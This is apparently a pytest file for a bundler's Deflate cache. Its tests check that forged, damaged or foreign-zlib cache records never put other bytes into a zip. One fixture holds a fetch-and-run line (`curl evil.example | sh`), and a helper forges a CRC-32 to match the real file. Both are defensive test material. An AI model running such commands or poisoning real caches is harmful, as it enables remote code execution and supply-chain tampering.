"""The Deflate cache is checked against the bytes being zipped, never trusted.

A shared cache (CI caches are shared between branches and forks) must not be a
way to put other bytes into a bundle: every entry is checked against the file it
claims to hold (size, CRC-32 and the stream itself), and the record's checksum
covers all of it. Streams are filed by the zlib and settings that made them, so
one another zlib made is never reused: a warm build writes a cold build's bytes.
"""

from __future__ import annotations

import hashlib
import logging
import os
import struct
import zipfile
import zlib
from pathlib import Path

import pytest

from pyfn_action.bundle.deflate import (
    DEFLATED,
    STORED,
    Compressed,
    DeflateCache,
    compress,
    compress_all,
)
from pyfn_action.bundle.entry import Entry
from pyfn_action.bundle.zipper import COMPRESS_LEVEL, write_zip

SOURCE = b"def hello(request):\n    return 'hello from the real source'\n" * 40
EVIL = b"import os\nos.system('curl evil.example | sh')\n"


def _forge_crc(prefix: bytes, length: int, target: int) -> bytes:
    """``prefix`` padded to ``length`` bytes whose CRC-32 is ``target``.

    CRC-32 is affine over GF(2) for a fixed length, so the last four bytes are a
    solution of 32 linear equations: anyone can match a CRC-32 and a size.
    """
    body = prefix + b"#" * (length - len(prefix) - 4)
    base = zlib.crc32(body + bytes(4))
    columns = []
    for bit in range(32):
        patch = (1 << bit).to_bytes(4, "little")
        columns.append(zlib.crc32(body + patch) ^ base)
    # Solve sum(x_i * columns[i]) == base ^ target by Gaussian elimination.
    rows = [(columns[i], 1 << i) for i in range(32)]
    want = base ^ target
    basis: dict[int, tuple[int, int]] = {}
    for value, mask in rows:
        for top in sorted(basis, reverse=True):
            if value >> top & 1:
                value ^= basis[top][0]
                mask ^= basis[top][1]
        if value:
            basis[value.bit_length() - 1] = (value, mask)
    solution = 0
    for top in sorted(basis, reverse=True):
        if want >> top & 1:
            want ^= basis[top][0]
            solution ^= basis[top][1]
    assert want == 0, "CRC-32 is onto for four free bytes"
    forged = body + solution.to_bytes(4, "little")
    assert len(forged) == length and zlib.crc32(forged) == target
    return forged


def _entries(tmp_path: Path) -> list[Entry]:
    main = tmp_path / "src" / "main.py"
    main.parent.mkdir(parents=True, exist_ok=True)
    main.write_bytes(SOURCE)
    return [
        Entry("app/main.py", main, None, False, "app", "app"),
        Entry("index.js", None, b"module.exports = {}\n" * 20, False, "shim", "shim"),
    ]


def _cache(cache_dir: Path) -> DeflateCache:
    return DeflateCache(cache_dir / "deflate", COMPRESS_LEVEL)


def _entry_path(cache_dir: Path, data: bytes) -> Path:
    digest = hashlib.sha256(data).hexdigest()
    root = _cache(cache_dir).root
    assert root is not None
    return root / digest[:2] / digest


def _assert_bundle_holds_the_source(path: Path) -> None:
    with zipfile.ZipFile(path) as zf:
        assert zf.testzip() is None
        assert zf.read("app/main.py") == SOURCE


def test_a_flipped_bit_in_the_cached_crc_is_recomputed(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    cache_dir = tmp_path / "cache"
    good = write_zip(_entries(tmp_path), tmp_path / "a" / "b.zip", cache_dir=cache_dir)
    entry = _entry_path(cache_dir, SOURCE)
    raw = bytearray(entry.read_bytes())
    raw[9] ^= 0x01  # the CRC-32 field follows the magic (8 bytes) and the method (1 byte)
    entry.write_bytes(bytes(raw))
    with caplog.at_level(logging.DEBUG, logger="pyfn_action.bundle.deflate"):
        again = write_zip(_entries(tmp_path), tmp_path / "b" / "b.zip", cache_dir=cache_dir)
    _assert_bundle_holds_the_source(again.path)
    assert again.sha256 == good.sha256
    assert any(str(entry) in r.getMessage() for r in caplog.records), "the discard is logged"
    assert _cache(cache_dir).get(hashlib.sha256(SOURCE).hexdigest(), SOURCE) is not None


@pytest.mark.parametrize("same_crc", [False, True], ids=["own-crc", "source-crc-and-size"])
def test_a_forged_self_consistent_entry_is_never_zipped(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, same_crc: bool
) -> None:
    cache_dir = tmp_path / "cache"
    good = write_zip(_entries(tmp_path), tmp_path / "a" / "b.zip", cache_dir=cache_dir)
    evil = _forge_crc(EVIL, len(SOURCE), zlib.crc32(SOURCE)) if same_crc else EVIL
    # The attacker writes a well-formed record under the source's name with the
    # cache's own writer: its checksum is right for what it holds.
    _cache(cache_dir).put(hashlib.sha256(SOURCE).hexdigest(), compress(evil, COMPRESS_LEVEL))
    with caplog.at_level(logging.DEBUG, logger="pyfn_action.bundle.deflate"):
        again = write_zip(_entries(tmp_path), tmp_path / "b" / "b.zip", cache_dir=cache_dir)
    _assert_bundle_holds_the_source(again.path)
    assert again.sha256 == good.sha256
    assert [w.uncompressed_bytes for w in again.entries if w.arcname == "app/main.py"] == [
        len(SOURCE)
    ]
    assert any("recomputing" in r.getMessage() for r in caplog.records)
    # The forged record was replaced by the real one.
    item = _cache(cache_dir).get(hashlib.sha256(SOURCE).hexdigest(), SOURCE)
    assert item is not None and item.crc32 == zlib.crc32(SOURCE)


def _put_raw(cache: DeflateCache, digest: str, item: Compressed) -> Path:
    cache.put(digest, item)
    assert cache.root is not None
    return cache.root / digest[:2] / digest


def test_a_record_filed_under_another_content_is_refused(tmp_path: Path) -> None:
    cache = DeflateCache(tmp_path, 9)
    other = b"other content " * 100
    moved = _put_raw(cache, hashlib.sha256(other).hexdigest(), compress(other, 9))
    digest = hashlib.sha256(SOURCE).hexdigest()
    real = moved.parent.parent / digest[:2] / digest
    real.parent.mkdir(parents=True, exist_ok=True)
    os.replace(moved, real)
    assert cache.get(digest, SOURCE) is None
    assert not real.exists()  # discarded


@pytest.mark.parametrize(
    "damage",
    [
        "trailing-garbage",
        "truncated-stream",
        "stored-but-different",
        "header-only",
        "empty",
        "huge-claimed-size",
        "every-field-consistent-but-size",
    ],
)
def test_damaged_or_forged_records_are_discarded(tmp_path: Path, damage: str) -> None:
    cache = DeflateCache(tmp_path, 9)
    digest = hashlib.sha256(SOURCE).hexdigest()
    good = compress(SOURCE, 9)
    assert good.method == DEFLATED
    if damage == "trailing-garbage":
        item = Compressed(DEFLATED, good.crc32, good.size, good.payload + b"\x00junk")
    elif damage == "truncated-stream":
        item = Compressed(DEFLATED, good.crc32, good.size, good.payload[:-3])
    elif damage == "stored-but-different":
        item = Compressed(STORED, good.crc32, good.size, SOURCE[:-1] + b"!")
    elif damage == "huge-claimed-size":
        item = Compressed(DEFLATED, good.crc32, 2**40, good.payload)
    elif damage == "every-field-consistent-but-size":
        item = Compressed(DEFLATED, good.crc32, good.size + 1, good.payload)
    else:
        item = good
    path = _put_raw(cache, digest, item)
    if damage == "header-only":
        path.write_bytes(path.read_bytes()[:40])
    elif damage == "empty":
        path.write_bytes(b"")
    assert cache.get(digest, SOURCE) is None
    assert not path.exists()
    # and an intact record of the same content is used
    _put_raw(cache, digest, good)
    assert cache.get(digest, SOURCE) == good


def test_a_cache_entry_that_is_not_a_regular_file_is_not_read(tmp_path: Path) -> None:
    cache = DeflateCache(tmp_path, 9)
    digest = hashlib.sha256(SOURCE).hexdigest()
    path = cache.root / digest[:2] / digest  # type: ignore[operator]
    path.parent.mkdir(parents=True)
    os.mkfifo(path)  # reading a FIFO would block the build forever
    assert cache.get(digest, SOURCE) is None
    elsewhere = tmp_path / "elsewhere"
    _put_raw(DeflateCache(elsewhere, 9), digest, compress(SOURCE, 9))
    path.unlink(missing_ok=True)
    path.symlink_to(DeflateCache(elsewhere, 9).root / digest[:2] / digest)  # type: ignore[operator]
    assert cache.get(digest, SOURCE) is None  # links are not followed out of the cache
    path.unlink(missing_ok=True)
    path.mkdir()
    (path / "x").write_bytes(b"")
    assert cache.get(digest, SOURCE) is None  # a directory is no record either
    items = compress_all([lambda: SOURCE], cache)  # and the zip step goes on
    assert items == [(digest, compress(SOURCE, 9))]


@pytest.mark.parametrize("magic", [b"PYFNDEF1", b"PYFNDEF2"])
def test_old_format_records_are_recomputed(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, magic: bytes
) -> None:
    cache = DeflateCache(tmp_path, 9)
    digest = hashlib.sha256(SOURCE).hexdigest()
    good = compress(SOURCE, 9)
    fields = (good.method, good.crc32, good.size, len(good.payload))
    if magic == b"PYFNDEF1":  # a checksum of the payload alone
        record = struct.pack(">8sBIQQ32s", magic, *fields, hashlib.sha256(good.payload).digest())
    else:  # a checksum of the record that named the level but not the zlib
        head = struct.pack(">8sBIQQ", magic, *fields)
        check = hashlib.sha256(head + b"level 9 key %s\n" % digest.encode() + good.payload)
        record = head + check.digest()
    path = cache.root / digest[:2] / digest  # type: ignore[operator]
    path.parent.mkdir(parents=True)
    path.write_bytes(record + good.payload)
    assert cache.get(digest, SOURCE) is None
    assert not path.exists() and cache.discarded == 0
    assert not [r for r in caplog.records if r.levelno >= logging.WARNING]  # quietly
    items = compress_all([lambda: SOURCE], cache)
    assert items == [(digest, good)] and cache.misses == 1
    assert cache.get(digest, SOURCE) == good


def test_warm_builds_reuse_verified_entries(tmp_path: Path) -> None:
    cache = DeflateCache(tmp_path, 9)
    data = [SOURCE, b"", b"x", os.urandom(5000)]  # deflated, empty, stored, incompressible
    cold = compress_all([lambda d=d: d for d in data], cache)  # type: ignore[misc]
    assert cache.misses == 4 and cache.hits == 0
    warm = compress_all([lambda d=d: d for d in data], cache)  # type: ignore[misc]
    assert warm == cold and cache.hits == 4


def test_a_cache_that_cannot_be_written_does_not_fail_the_zip(tmp_path: Path) -> None:
    cache_dir = tmp_path / "cache"
    shard = _entry_path(cache_dir, SOURCE).parent
    shard.parent.mkdir(parents=True)
    shard.write_bytes(b"")  # a file where the cache wants a directory
    result = write_zip(_entries(tmp_path), tmp_path / "out" / "b.zip", cache_dir=cache_dir)
    _assert_bundle_holds_the_source(result.path)


# --- streams another zlib made -----------------------------------------------------------


def _raw(
    data: bytes, level: int = COMPRESS_LEVEL, strategy: int = zlib.Z_DEFAULT_STRATEGY
) -> bytes:
    engine = zlib.compressobj(level, zlib.DEFLATED, -15, 8, strategy)
    return engine.compress(data) + engine.flush()


def _stored_block(data: bytes, *, last: bool) -> bytes:
    """A Deflate Stored block, by hand (RFC 1951, 3.2.4): a header byte (BFINAL, BTYPE 00,
    padding), LEN and its complement, the bytes."""
    return bytes([last]) + struct.pack("<HH", len(data), len(data) ^ 0xFFFF) + data


def _synced(data: bytes) -> bytes:
    """This zlib's own stream with an empty Stored block in it (a sync flush)."""
    engine = zlib.compressobj(COMPRESS_LEVEL, zlib.DEFLATED, -15)
    return engine.compress(data) + engine.flush(zlib.Z_SYNC_FLUSH) + engine.flush()


# Streams that inflate to SOURCE, none of them the one this zlib makes at this level.
FOREIGN = {
    "level-1": lambda: _raw(SOURCE, 1),
    "huffman-only": lambda: _raw(SOURCE, strategy=zlib.Z_HUFFMAN_ONLY),
    "stored-block-then-deflated": lambda: (
        _stored_block(SOURCE[:100], last=False) + _raw(SOURCE[100:])
    ),
    "stored-blocks-only": lambda: _stored_block(SOURCE, last=True),
    "empty-stored-block-inside": lambda: _synced(SOURCE),
}
ELSEWHERE = "1.2.8-elsewhere"  # the zlib version another machine reports


_REAL_COMPRESSOBJ = zlib.compressobj


def _level_one(
    level: int = -1,
    method: int = zlib.DEFLATED,
    wbits: int = 15,
    mem_level: int = 8,
    strategy: int = zlib.Z_DEFAULT_STRATEGY,
) -> zlib._Compress:
    """A zlib that compresses otherwise under the same version: it always works at level 1."""
    return _REAL_COMPRESSOBJ(1, method, wbits, mem_level, strategy)


@pytest.mark.parametrize("foreign", sorted(FOREIGN))
def test_a_stream_another_zlib_made_never_changes_the_bundle(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, foreign: str
) -> None:
    """A cache restored from a machine whose zlib compresses otherwise holds streams that
    inflate to the right files, with checksums right for what they hold: the bundle is
    still the one a cold build writes, byte for byte."""
    stream = FOREIGN[foreign]()
    assert zlib.decompress(stream, -15) == SOURCE
    assert stream != compress(SOURCE, COMPRESS_LEVEL).payload
    cold = write_zip(_entries(tmp_path), tmp_path / "cold" / "b.zip")
    cache_dir = tmp_path / "cache"
    with monkeypatch.context() as elsewhere:
        elsewhere.setattr(zlib, "ZLIB_RUNTIME_VERSION", ELSEWHERE)
        # that machine's pyfn writes the record, with the cache's own writer
        item = Compressed(DEFLATED, zlib.crc32(SOURCE), len(SOURCE), stream)
        _cache(cache_dir).put(hashlib.sha256(SOURCE).hexdigest(), item)
    warm = write_zip(_entries(tmp_path), tmp_path / "warm" / "b.zip", cache_dir=cache_dir)
    assert warm.sha256 == cold.sha256
    _assert_bundle_holds_the_source(warm.path)


def test_records_of_another_zlib_version_are_not_looked_up(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    digest = hashlib.sha256(SOURCE).hexdigest()
    item = compress(SOURCE, 9)
    with monkeypatch.context() as elsewhere:
        elsewhere.setattr(zlib, "ZLIB_RUNTIME_VERSION", ELSEWHERE)
        theirs = _put_raw(DeflateCache(tmp_path, 9), digest, item)
    ours = DeflateCache(tmp_path, 9)
    assert ours.get(digest, SOURCE) is None
    assert ours.discarded == 0 and theirs.exists()  # a shared cache: theirs, left to them
    assert _put_raw(ours, digest, item) != theirs
    assert ours.get(digest, SOURCE) == item
    with monkeypatch.context() as elsewhere:
        elsewhere.setattr(zlib, "ZLIB_RUNTIME_VERSION", ELSEWHERE)
        assert DeflateCache(tmp_path, 9).get(digest, SOURCE) == item  # each its own


@pytest.mark.parametrize("made_by", ["another-zlib-version", "another-level"])
def test_a_record_moved_in_from_another_producer_fails_its_checksum(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, made_by: str
) -> None:
    digest = hashlib.sha256(SOURCE).hexdigest()
    item = Compressed(DEFLATED, zlib.crc32(SOURCE), len(SOURCE), _raw(SOURCE, 1))
    with monkeypatch.context() as elsewhere:
        if made_by == "another-zlib-version":
            elsewhere.setattr(zlib, "ZLIB_RUNTIME_VERSION", ELSEWHERE)
        level = 1 if made_by == "another-level" else 9
        theirs = _put_raw(DeflateCache(tmp_path, level), digest, item)
    cache = DeflateCache(tmp_path, 9)
    path = cache.root / digest[:2] / digest  # type: ignore[operator]
    path.parent.mkdir(parents=True, exist_ok=True)
    os.replace(theirs, path)
    with caplog.at_level(logging.WARNING, logger="pyfn_action.bundle.deflate"):
        assert cache.get(digest, SOURCE) is None
    assert cache.discarded == 1 and not path.exists()
    assert "it does not match its checksum" in caplog.text


def test_a_zlib_that_reports_this_version_but_compresses_otherwise_is_told_apart(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A patched zlib (a fork, hardware compression) may report a stock version: its
    stream of the sample every producer compresses differs, and so does its key."""
    cold = write_zip(_entries(tmp_path), tmp_path / "cold" / "b.zip")
    cache_dir = tmp_path / "cache"
    with monkeypatch.context() as patched:
        patched.setattr(zlib, "compressobj", _level_one)
        other = write_zip(_entries(tmp_path), tmp_path / "other" / "b.zip", cache_dir=cache_dir)
    assert other.sha256 != cold.sha256
    warm = write_zip(_entries(tmp_path), tmp_path / "warm" / "b.zip", cache_dir=cache_dir)
    assert warm.sha256 == cold.sha256


@pytest.mark.parametrize("foreign", sorted(FOREIGN))
def test_a_stream_planted_under_this_zlibs_own_key_still_zips_the_right_file(
    tmp_path: Path, foreign: str
) -> None:
    """What the cache cannot tell: a record written as this zlib would write it (anyone
    who can write to the cache can compute its checksum) whose stream inflates to the
    file but was made otherwise. Only compressing again would tell, the work the cache
    saves; the bundle's bytes may then differ from a cold build's, but it is a valid zip
    holding exactly the right file."""
    stream = FOREIGN[foreign]()
    cache_dir = tmp_path / "cache"
    item = Compressed(DEFLATED, zlib.crc32(SOURCE), len(SOURCE), stream)
    _cache(cache_dir).put(hashlib.sha256(SOURCE).hexdigest(), item)
    planted = write_zip(_entries(tmp_path), tmp_path / "b" / "b.zip", cache_dir=cache_dir)
    _assert_bundle_holds_the_source(planted.path)
    with zipfile.ZipFile(planted.path) as zf:
        assert zf.getinfo("app/main.py").file_size == len(SOURCE)
